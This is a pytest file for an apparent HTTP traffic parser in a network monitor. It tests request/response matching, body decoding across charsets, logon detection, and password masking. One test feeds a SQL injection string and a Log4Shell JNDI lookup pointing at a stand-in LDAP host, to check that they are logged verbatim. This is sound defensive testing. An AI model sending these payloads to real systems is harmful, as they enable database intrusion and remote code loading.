"""HTTP: requests meet their responses, attacks stay readable, passwords do not stay at all."""

import base64
import gzip

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

SECRET = "Wy8-Geheim"


def web(session, *pairs, port=8080):
    talk = session(port).opened()
    for asked, answered in pairs:
        talk.asks(asked)
        if answered:
            talk.answers(answered)
    return talk.closed()


OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 2\r\n\r\nhi"


def everything(heard):
    return repr([event.fields for event in heard.events])


def test_every_request_of_a_connection_meets_its_response(session, talk):
    pairs = [(b"GET /%d?q=a HTTP/1.1\r\nHost: gov.example\r\n\r\n" % n, OK) for n in range(3)]
    pairs[1] = (
        pairs[1][0],
        b"HTTP/1.1 404 Not Found\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nnot\r\n0\r\n\r\n",
    )
    heard = talk(web(session, *pairs))
    assert [e.text("url.full") for e in heard.of("http")] == [f"http://gov.example/{n}?q=a" for n in range(3)]
    assert [e.number("http.response.status_code") for e in heard.of("http")] == [200, 404, 200]
    assert heard.of("http")[1].text("http.response.body.content") == "not"
    assert heard.of("http")[0].text("http.response.mime_type") == "text/html"
    assert heard.only("flow").text("network.protocol") == "http"


def test_equal_requests_are_two_events(session, talk):
    twice = b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n" * 2
    heard = talk(web(session, (twice, OK + OK)))
    assert len({event.id for event in heard.of("http")}) == 2


def test_attack_strings_stay_as_sent(session, talk):
    asked = b"GET /a?x=1' UNION SELECT 1-- - HTTP/1.1\r\nHost: a.example\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n"
    event = talk(web(session, (asked, OK))).only("http")
    assert event.text("url.original") == "/a?x=1' UNION SELECT 1-- -"
    assert event.text("url.query") == "x=1' UNION SELECT 1-- -"
    assert event.text("user_agent.original") == "${jndi:ldap://x/a}"


def test_a_packed_response_can_be_read(session, talk):
    body = gzip.compress("身份证".encode())
    head = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
    event = talk(web(session, (b"GET / HTTP/1.1\r\n\r\n", head + body))).only("http")
    assert event.text("http.response.body.content") == "身份证"
    assert event.text("url.full") == "http://198.51.100.20:8080/"


def test_basic_credentials_make_a_clear_text_logon(session, talk):
    token = base64.b64encode(f"wang:{SECRET}".encode())
    asked = b"GET / HTTP/1.1\r\nHost: a.example\r\nAuthorization: Basic " + token + b"\r\nCookie: s=1\r\n\r\n"
    heard = talk(web(session, (asked, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")))
    logon = heard.only("logon")
    assert (logon.text("user.name"), logon.text("event.outcome")) == ("wang", "failure")
    assert logon.fields["taishi.logon.cleartext"] is True
    assert "Authorization: Basic ***\nCookie: ***" in heard.only("http").text("taishi.http.headers")
    assert SECRET not in everything(heard)
    assert token.decode() not in everything(heard)


def test_a_form_makes_a_logon_and_its_password_is_nowhere(session, talk):
    for mime, body in (
        ("application/x-www-form-urlencoded", f"username=li&password={SECRET}&go=1"),
        ("application/json", f'{{"userName": "li", "pwd": "{SECRET}"}}'),
    ):
        head = f"POST /login HTTP/1.1\r\nContent-Type: {mime}\r\nContent-Length: {len(body)}\r\n\r\n"
        heard = talk(
            web(session, ((head + body).encode(), b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\n\r\n"))
        )
        logon = heard.only("logon")
        assert (logon.text("user.name"), logon.text("event.outcome")) == ("li", "success")
        assert "***" in heard.only("http").text("http.request.body.content")
        assert SECRET not in everything(heard)
        assert SECRET.encode().hex() not in everything(heard)


def test_a_password_in_the_address_is_masked(session, talk):
    asked = f"GET /in?user=li&passwd={SECRET}&x=1 HTTP/1.1\r\nHost: a.example\r\n\r\n".encode()
    heard = talk(web(session, (asked, None)))
    assert heard.only("http").text("url.query") == "user=li&passwd=***&x=1"
    assert heard.only("logon").text("event.outcome") == ""
    assert SECRET.encode().hex() not in everything(heard)


def test_a_request_after_a_lost_segment_is_still_found(session, talk):
    said = session(80).opened().asks(b"POST /a HTTP/1.1\r\n\r\n")
    said.sequences[0] += 87
    said.asks(b"rest of what was lost\r\nGET /b HTTP/1.1\r\nHost: b.example\r\n\r\n")
    assert [event.text("url.path") for event in talk(said).of("http")] == ["/a", "/b"]


@settings(max_examples=60, deadline=None)
@given(asked=st.binary(max_size=200), answered=st.binary(max_size=200))
def test_anything_after_a_request_line_is_survived(asked, answered, frames, hear):
    def segment(payload, sequence, back):
        ports, ends = (
            ((80, 999), (frames.server, frames.client))
            if back
            else ((999, 80), (frames.client, frames.server))
        )
        return frames.ethernet(frames.ipv4(frames.tcp(payload, *ports, sequence, 16), 6, *ends))

    both = [
        (0, segment(b"GET / HTTP/1.1\r\n" + asked, 1, False)),
        (1, segment(b"HTTP/1.1 200 \r\n" + answered, 1, True)),
    ]
    heard = hear(frames.capture(both))
    assert heard.of("http")
    assert not heard.rejects


def test_parameters_are_told_decoded(session, talk):
    asked = b"POST /q?id=1%2527%20OR HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    asked += b"Content-Length: 24\r\n\r\na=%3Cb%3E&pwd=" + SECRET.encode()
    heard = talk(web(session, (asked, OK)))
    assert heard.only("http").extra["http.request.parameters"] == ["id=1' OR", "a=<b>", "pwd=***"]
    assert SECRET not in everything(heard)


ROW = "姓名：张三，证件号码：340521198001010013；"


@pytest.mark.parametrize(
    ("kind", "charset"),
    [
        ("text/html; charset=GBK", "gbk"),
        ('text/plain;charset="gb2312"', "gb2312"),
        ("application/json; Charset=gb18030", "gb18030"),
        ("text/html; charset=utf-8", "utf-8"),
        ("text/html", "utf-8"),
        ("text/html", "gb18030"),
    ],
)
def test_a_body_is_read_in_its_charset(session, talk, kind, charset):
    for many in (1, 90, 91, 400):  # some are cut within a character
        body = (ROW * many).encode(charset)
        head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        heard = talk(web(session, (b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", head + body)))
        told = heard.only("http").text("http.response.body.content")
        assert told.startswith(ROW)
        assert (ROW * many).startswith(told)


def test_what_is_in_no_charset_is_still_shown(session, talk):
    for body in ("<p>caf\xe9 cr\xe8me</p>".encode("latin-1"), bytes(range(256))):
        head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body)
        heard = talk(web(session, (b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", head + body)))
        assert heard.only("http").text("http.response.body.content") == body.decode("latin-1")
